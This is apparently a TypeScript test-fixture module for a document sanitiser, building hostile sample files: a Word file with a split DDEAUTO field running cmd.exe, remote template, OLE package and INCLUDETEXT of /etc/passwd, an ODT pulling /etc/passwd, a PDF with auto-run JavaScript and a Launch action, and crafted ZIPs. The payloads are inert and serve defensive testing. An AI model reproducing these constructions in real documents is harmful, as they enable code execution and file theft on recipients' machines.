import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { crc32, deflateRawSync } from "node:zlib";
import { ZipWriter } from "#core/sanitise/treat/zip-writer.ts";

/** The harmless file that every virus scanner must find (eicar.org), put together here so that no scanner finds this one. */
export const eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"].join(
  "",
);

/** A ZIP of these texts; returns its path. */
export async function zipOf(
  folder: string,
  name: string,
  files: Record<string, string | Uint8Array>,
): Promise<string> {
  const path = join(folder, name);
  await ZipWriter.write(path, async (zip) => {
    for (const [entry, content] of Object.entries(files))
      await zip.addBytes(entry, typeof content === "string" ? Buffer.from(content) : content);
  });
  return path;
}

export type RawEntry = {
  name: string;
  content?: Buffer;
  flags?: number;
  /** Upper half of the external attributes: a Unix mode. */
  mode?: number;
  /** Its directory entry leads to the local header of this earlier entry. */
  sameAs?: number;
  isStored?: boolean;
};

/** A ZIP byte by byte, as an attacker writes it. */
export async function rawZip(folder: string, name: string, entries: readonly RawEntry[]): Promise<string> {
  const locals: Buffer[] = [];
  const offsets: number[] = [];
  const centrals: Buffer[] = [];
  let at = 0;
  for (const entry of entries) {
    const title = Buffer.from(entry.name);
    const content = entry.content ?? Buffer.alloc(0);
    const packed = entry.isStored ? content : deflateRawSync(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(entry.flags ?? 0x800, 6);
    local.writeUInt16LE(entry.isStored ? 0 : 8, 8);
    local.writeUInt32LE(crc32(content), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(content.length, 22);
    local.writeUInt16LE(title.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(0x0314, 4);
    local.copy(central, 6, 4, 30);
    central.writeUInt32LE(((entry.mode ?? 0o100644) << 16) >>> 0, 38);
    offsets.push(entry.sameAs === undefined ? at : offsets[entry.sameAs]!);
    central.writeUInt32LE(offsets.at(-1)!, 42);
    centrals.push(central, title);
    if (entry.sameAs !== undefined) continue;
    locals.push(local, title, packed);
    at += 30 + title.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  const path = join(folder, name);
  await writeFile(path, Buffer.concat([...locals, directory, end]));
  return path;
}

const types = (main: string, more = "") =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`;
const relationships = (items: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items}</Relationships>`;
const kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

/** A Word document with these paragraphs. */
export const plainDocument = (...paragraphs: string[]) => ({
  "[Content_Types].xml": types(
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
  ),
  "_rels/.rels": relationships(
    `<Relationship Id="rId1" Type="${kind}/officeDocument" Target="word/document.xml"/>`,
  ),
  "word/document.xml": `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${word}" xmlns:r="${kind}"><w:body>${paragraphs.map((text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`).join("")}</w:body></w:document>`,
});

/** A Word document with everything that acts or reaches out: VBA, OLE object, remote template, DDE in pieces, a linked picture. */
export const hostileDocument = (server: string) => ({
  "[Content_Types].xml": types(
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    `<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>`,
  ),
  "_rels/.rels": relationships(
    `<Relationship Id="rId1" Type="${kind}/officeDocument" Target="word/document.xml"/>`,
  ),
  "word/_rels/document.xml.rels": relationships(
    [
      `<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
      `<Relationship Id="rId2" Type="${kind}/oleObject" Target="embeddings/oleObject1.bin"/>`,
      `<Relationship Id="rId3" Type="${kind}/image" Target="${server}/pixel.png" TargetMode="External"/>`,
      `<Relationship Id="rId4" Type="${kind}/hyperlink" Target="file:///etc/passwd" TargetMode="External"/>`,
      `<Relationship Id="rId5" Type="${kind}/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/>`,
      `<Relationship Id="rId6" Type="${kind}/settings" Target="settings.xml"/>`,
    ].join(""),
  ),
  "word/_rels/settings.xml.rels": relationships(
    `<Relationship Id="rId1" Type="${kind}/attachedTemplate" Target="${server}/template.dotm" TargetMode="External"/>`,
  ),
  "word/settings.xml": `<?xml version="1.0"?><w:settings xmlns:w="${word}" xmlns:r="${kind}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
  "word/vbaProject.bin": "Sub AutoOpen()",
  "word/embeddings/oleObject1.bin": "an object",
  "customUI/customUI.xml": "<customUI/>",
  "word/document.xml": `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${word}" xmlns:r="${kind}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>
<w:p><w:r><w:t>庁議の次第</w:t></w:r></w:p>
<w:p><w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId2"/></w:object></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;file:///etc/passwd&quot;"><w:r><w:t>取り込み</w:t></w:r></w:fldSimple></w:p>
<w:p><w:hyperlink r:id="rId4"><w:r><w:t>内部</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId5"><w:r><w:t>公式</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
</w:body></w:document>`,
});

/** A flat OpenDocument text whose section is a file of the machine and whose picture is on a server. */
export const reachingDocument = (server: string) => ({
  mimetype: "application/vnd.oasis.opendocument.text",
  "META-INF/manifest.xml": `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
  "content.xml": `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.2"><office:body><office:text><text:p>回覧</text:p><text:section text:name="S"><text:section-source xlink:href="file:///etc/passwd" xlink:type="simple" xlink:show="embed"/><text:p>古い中身</text:p></text:section><text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="${server}/picture.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text></office:body></office:document-content>`,
});

/** A PDF of one page that runs a script when it opens, starts a program, holds a file and a form, and links out. */
export function hostilePdf(): Buffer {
  const script = "app.launchURL('http://example.invalid');";
  const text = "BT /F1 24 Tf 72 700 Td (Notice of the meeting) Tj ET";
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AcroForm << /Fields [8 0 R] /XFA (x) >> /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(f) 9 0 R] >> >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> >>",
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    `<< /S /JavaScript /JS (${script.replace(/[()]/g, "\\$&")}) >>`,
    "<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /Launch /F (cmd.exe) /Next << /S /URI /URI (http://example.invalid) >> >> >>",
    "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] /A << /S /SubmitForm /F (http://example.invalid) >> >>",
    "<< /Type /Filespec /F (evil.exe) /EF << /F 10 0 R >> >>",
    "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
  ];
  let body = "%PDF-1.7\n";
  const offsets = objects.map((object, index) => {
    const at = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("")}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

/** An OLE compound file with one entry of this name in its directory: what an encrypted workbook looks like from outside. */
export function compoundFile(entry: string): Buffer {
  const file = Buffer.alloc(512 * 3);
  Buffer.from("d0cf11e0a1b11ae1", "hex").copy(file, 0);
  file.writeUInt16LE(0x3e, 24);
  file.writeUInt16LE(3, 26);
  file.writeUInt16LE(0xfffe, 28);
  file.writeUInt16LE(9, 30);
  file.writeUInt16LE(6, 32);
  file.writeUInt32LE(1, 44);
  file.writeUInt32LE(1, 48);
  file.writeUInt32LE(4096, 56);
  file.writeUInt32LE(0xfffffffe, 60);
  file.writeUInt32LE(0xfffffffe, 68);
  file.fill(0xff, 76, 512);
  file.writeUInt32LE(0, 76);
  file.fill(0xff, 512, 1024);
  file.writeUInt32LE(0xfffffffd, 512);
  file.writeUInt32LE(0xfffffffe, 516);
  for (const [index, name] of ["Root Entry", entry].entries()) {
    const at = 1024 + index * 128;
    file.write(name, at, "utf16le");
    file.writeUInt16LE((name.length + 1) * 2, at + 64);
    file.writeUInt8(index === 0 ? 5 : 2, at + 66);
  }
  return file;
}
